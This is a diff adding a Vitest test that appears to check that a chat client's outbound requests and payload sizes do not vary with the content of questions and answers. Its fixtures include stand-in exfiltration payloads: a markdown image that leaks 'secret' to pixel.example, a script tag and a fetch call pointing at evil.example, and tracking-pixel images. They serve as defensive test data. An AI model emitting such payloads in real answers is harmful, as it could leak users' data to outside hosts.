@@ -1,0 +1,87 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { DeviceLab } from '../../parts/device-lab.ts';
+
+let lab: DeviceLab;
+beforeAll(async () => {
+  lab = await DeviceLab.open();
+});
+afterAll(() => lab[Symbol.asyncDispose]());
+
+const contents: Record<
+  string,
+  { readonly question: string; readonly tokens: readonly string[]; readonly reasoning?: readonly string[] }
+> = {
+  'plain words': { question: 'Hello?', tokens: ['Hello.'] },
+  'images and links': {
+    question: '![q](https://pixel.example/q.png)',
+    tokens: [
+      '![leak](https://pixel.example/?q=secret) ',
+      '[link](https://evil.example/) ',
+      '<img src="https://pixel.example/x">',
+    ],
+  },
+  'code, mathematics and diagrams': {
+    question: '```js\nfetch("https://evil.example")\n```',
+    tokens: [
+      '```html\n<script src="https://evil.example/x.js"></script>\n```\n',
+      '$$\\int$$\n',
+      '```mermaid\ngraph TD\n```',
+    ],
+  },
+  'an empty answer': { question: 'Say nothing.', tokens: [] },
+  reasoning: {
+    question: 'Think.',
+    tokens: ['So.'],
+    reasoning: Array.from({ length: 15 }, () => 'thinking about it '),
+  },
+};
+
+/** What the relay can count: which calls, and how long the bodies of those are that write, in order. */
+type Observed = { readonly kinds: readonly string[]; readonly writes: readonly string[] };
+
+/** Asks one after another, since they share a model, and waits for all to become compact at the same time. */
+async function observe(...asked: (typeof contents)[string][]): Promise<Observed[]> {
+  const waiting: (() => Promise<Observed>)[] = [];
+  for (const { question, tokens, reasoning } of asked) {
+    lab.upstream.answerWith(reasoning === undefined ? { tokens } : { tokens, reasoning });
+    const { profile, tab } = await lab.signUp();
+    await tab.vault.openConversation({ conversationId: null });
+    await tab.until(() => tab.enclave.kind === 'verified' && tab.connection === 'connected');
+    const from = profile.requests.length;
+    const { turnId } = await tab.ask(question);
+    await tab.ended(turnId);
+    waiting.push(async () => {
+      await tab.until(() => profile.requests.some(({ path, method }) => method === 'POST' && path === '/v1/items'));
+      return count(profile.requests.slice(from));
+    });
+  }
+  return Promise.all(waiting.map((wait) => wait()));
+}
+
+function count(seen: readonly { readonly method: string; readonly path: string; readonly body: string }[]): Observed {
+  const patternOf = (path: string) => path.replace(/\?.*/, '').replaceAll(/[A-Za-z0-9_-]{22}/g, '{id}');
+  return {
+    kinds: [...new Set(seen.map(({ method, path }) => `${method} ${patternOf(path)}`))].toSorted(),
+    writes: seen.flatMap(({ method, path, body }) => (method === 'POST' ? [`${patternOf(path)} ${body.length}`] : [])),
+  };
+}
+
+describe('M43 what a client asks for', () => {
+  it('is the same whatever was written and answered, down to the lengths of what it sends', async () => {
+    const [first, ...others] = await observe(...Object.values(contents));
+    expect(first?.writes).toHaveLength(2);
+    expect(first?.writes[0]).toMatch(/^\/v1\/turns \d+$/);
+    expect(first?.writes[1]).toMatch(/^\/v1\/items \d+$/);
+    for (const [place, other] of others.entries()) expect({ place, ...other }).toEqual({ place, ...first });
+  });
+
+  it('shows a longer question only as another size class', async () => {
+    const [short, longer, long] = await observe(
+      { question: 'x', tokens: ['y'] },
+      { question: 'x'.repeat(600), tokens: ['y'] },
+      { question: 'x'.repeat(3_000), tokens: ['y'] },
+    );
+    expect(longer?.writes).toEqual(short?.writes);
+    expect(long?.writes[0]).not.toBe(short?.writes[0]);
+  });
+});
